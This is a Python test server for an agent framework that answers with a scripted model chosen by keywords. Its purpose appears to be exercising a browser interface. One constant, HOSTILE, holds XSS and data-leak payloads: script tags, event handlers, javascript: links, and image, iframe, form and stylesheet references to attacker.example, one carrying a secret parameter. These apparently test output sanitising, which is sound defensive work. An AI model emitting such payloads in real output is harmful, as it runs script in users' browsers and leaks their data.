"""Serve a folder with a scripted model, whose answer depends on words of the question.

`python -m tests.server.browser.app FOLDER [PORT]` prints the address.
"""

from __future__ import annotations

import asyncio
import os
import sys
from collections.abc import AsyncGenerator, Sequence
from pathlib import Path

from agentkit import Agent, Options, Project, ScriptedModel, Tool, tool
from agentkit.backends.base import images
from agentkit.events import ModelPart, ReasoningDelta, TextDelta
from agentkit.mcp.server.http import MCP_PATH, serve_http
from agentkit.messages import Message, ToolCall
from agentkit.server.app import create_app
from agentkit.server.keys import SingleKey

ANSWER = """The archive is backed up **every Sunday at 03:00**, and kept for 90 days [1].

- A bucket holds at most 500 objects.
- A backup of a full bucket takes four minutes [1].

| Tier | Copies | Kept |
|---|---:|---|
| hot | 3 | 90 days |
| cold | 2 | 7 years |

```python
for item in bucket.list(limit=500):
    print(item.name, item.size)  # bytes
```

Copies that survive: $N(t) = N_0 e^{-\\lambda t}$.
"""
CHAPTERS = [
    f"## Chapter {number}\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint({number})\n```\n\n"
    for number in range(30)
]
LONG = " ".join(f"word{number}" for number in range(400))
HOSTILE = """<script>window.attacked = 1</script><img src=x onerror="window.attacked = 2">
![pixel](https://attacker.example/pixel.png?secret=1)
<a href="javascript:window.attacked=3">link</a>
[javascript](javascript:window.attacked=4) [data](data:text/html,<script>1</script>)
<iframe src="https://attacker.example/"></iframe>
<svg onload="window.attacked = 5"><use href="https://attacker.example/a.svg#x"/></svg>
<style>@import url(https://attacker.example/a.css);</style>
<div style="background:url(https://attacker.example/b.png)">styled</div>
<form action="https://attacker.example/"><button>send</button></form>
<video src="https://attacker.example/v.mp4" autoplay></video>
<link rel="stylesheet" href="https://attacker.example/c.css">
<base href="https://attacker.example/">
<meta http-equiv="refresh" content="0;url=https://attacker.example/">

$\\href{javascript:window.attacked=6}{x}$ $\\includegraphics{https://attacker.example/d.png}$

```html
<script>window.attacked = 7</script>
```

| a | <img src="https://attacker.example/e.png"> |
|---|---|
| <b onmouseover="window.attacked=8">b</b> | ![x](//attacker.example/f.png) |
"""
SECONDS_PER_PART = 0.03
KEY_VARIABLE = "AGENTKIT_TEST_SERVER_KEY"
"""The variable with the key that callers must send; none is needed without it."""


class PacedModel(ScriptedModel):
    """Streams its script at a steady pace."""

    async def request(
        self, messages: Sequence[Message], tools: Sequence[Tool], options: Options
    ) -> AsyncGenerator[ModelPart, None]:
        async for part in super().request(messages, tools, options):
            if isinstance(part, TextDelta | ReasoningDelta):
                await asyncio.sleep(SECONDS_PER_PART)
            yield part


def answer_to(messages: Sequence[Message]) -> str | Sequence[ModelPart]:
    """What the model says."""
    question = next(m for m in reversed(messages) if m.role == "user").text.lower()
    last = messages[-1]
    if "delete" in question:
        if last.role == "tool" and last.tool_call_id == "call-delete":
            return f"Done: {last.text}."
        return [ToolCall("call-delete", "delete_run", {"run": 17, "reason": "older than 90 days"})]
    if "clerk" in question:
        done = last.role == "tool" and last.tool_call_id == "call-clerk"
        return last.text if done else [ToolCall("call-clerk", "clerk", {"question": "How many?"})]
    if "attached" in question:
        return _about_attachments(next(m for m in reversed(messages) if m.role == "user"))
    if "long" in question:
        return LONG
    if "chapters" in question:
        return [TextDelta(chapter) for chapter in CHAPTERS]
    if "hostile" in question:
        return HOSTILE
    if "scan" in question:
        found = [p.marker for m in messages for p in m.passages if "payable" in p.chunk.text]
        return f"Invoice number 2024-0815 is payable within 30 days [{found[0] if found else 1}]."
    if "manual" in question:
        found = [p.marker for m in messages for p in m.passages if "checksum" in p.chunk.text]
        return f"The copy is verified by checksum on Monday [{found[0] if found else 1}]."
    return [ReasoningDelta("The question is about backups."), *_pieces(ANSWER)]


@tool
def count_pumps(hall: str) -> str:
    """Count the pumps of a hall."""
    return f"4 pumps in the {hall} hall"


def answer_of_clerk(messages: Sequence[Message]) -> str | ToolCall:
    """What the model of the sub-agent says."""
    if messages[-1].role == "tool":
        return "There are 4 pumps."
    return ToolCall("count", "count_pumps", {"hall": "north"})


def _about_attachments(question: Message) -> str:
    """How many images the question has, and what is cited of its files."""
    cited = [f"{p.chunk.text.splitlines()[-1]} [{p.marker}]" for p in question.passages]
    return " ".join([f"I see {len(images(question))} images.", *cited])


def _pieces(text: str) -> list[ModelPart]:
    return [TextDelta(text[at : at + 24]) for at in range(0, len(text), 24)]


async def main(folder: Path, port: int) -> None:
    async with Project.open(folder, model="extractive", trust=True) as project:
        project.agent.model = PacedModel(answer_to, name="scripted")
        clerk = Agent(ScriptedModel(answer_of_clerk), [count_pumps])
        project.agent.tools = (*project.agent.tools, clerk.as_tool("clerk", "Ask the clerk."))
        key = os.environ.get(KEY_VARIABLE, "")
        keys = SingleKey(key) if key else None
        app = create_app(project, keys=keys, needs_key=bool(key))

        def ready(url: str) -> None:
            print(url.removesuffix(MCP_PATH), flush=True)

        await serve_http(app, "127.0.0.1", port, on_ready=ready)


if __name__ == "__main__":
    asyncio.run(main(Path(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 0))
